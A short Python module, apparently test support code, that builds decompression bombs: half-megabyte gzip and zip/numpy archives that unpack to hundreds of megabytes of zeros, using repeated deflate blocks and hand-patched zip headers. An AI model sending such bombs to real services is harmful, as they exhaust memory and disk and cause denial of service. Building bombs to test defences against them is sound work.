"""Small files that unpack to enormous ones."""

import functools
import io
import struct
import zipfile
import zlib

import numpy as np

BOMB = 2**29
"""Unpacked size of a half-megabyte bomb."""

MOST = 2**26
"""Input that unpacks to more is already a bomb, and is left as it is."""

_BLOCK = bytes(2**20)


@functools.cache
def zeros_packed(size: int = BOMB) -> bytes:
    """A gzip member that unpacks to so many zeros, MiBs of them, a thousand times its size."""
    header = b"\x1f\x8b\x08" + bytes(5) + b"\x02\xff"
    return header + _deflated(b"", size) + struct.pack("<II", _checksum(b"", size), size)


@functools.cache
def array_of_zeros(name: str, size: int = BOMB) -> bytes:
    """A zip with a single array of so many zeros, MiBs of them."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        head, {"descr": "|u1", "fortran_order": False, "shape": (size,)}
    )
    start = head.getvalue()
    return _zipped(name, _deflated(start, size), _checksum(start, size), len(start) + size)


def _deflated(start: bytes, size: int) -> bytes:
    """`start` and `size` zeros, in deflate's format; every block of zeros packs to the same bytes.

    After a full flush, what follows doesn't depend on what came before (RFC 1951).
    """
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + block * (size // len(_BLOCK)) + packer.flush()


def _checksum(start: bytes, size: int) -> int:
    checksum = zlib.crc32(start)
    for _ in range(size // len(_BLOCK)):
        checksum = zlib.crc32(_BLOCK, checksum)
    return checksum


def _zipped(name: str, packed: bytes, checksum: int, size: int) -> bytes:
    """A zip of one member that is packed already: a stored one, whose headers then say deflated."""
    buffer = io.BytesIO()
    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, packed)
        info.compress_type, info.CRC, info.file_size = zipfile.ZIP_DEFLATED, checksum, size
    written = bytearray(buffer.getvalue())  # its central directory is right, its first header not
    struct.pack_into("<H", written, 8, zipfile.ZIP_DEFLATED)
    struct.pack_into("<III", written, 14, checksum, len(packed), size)
    return bytes(written)
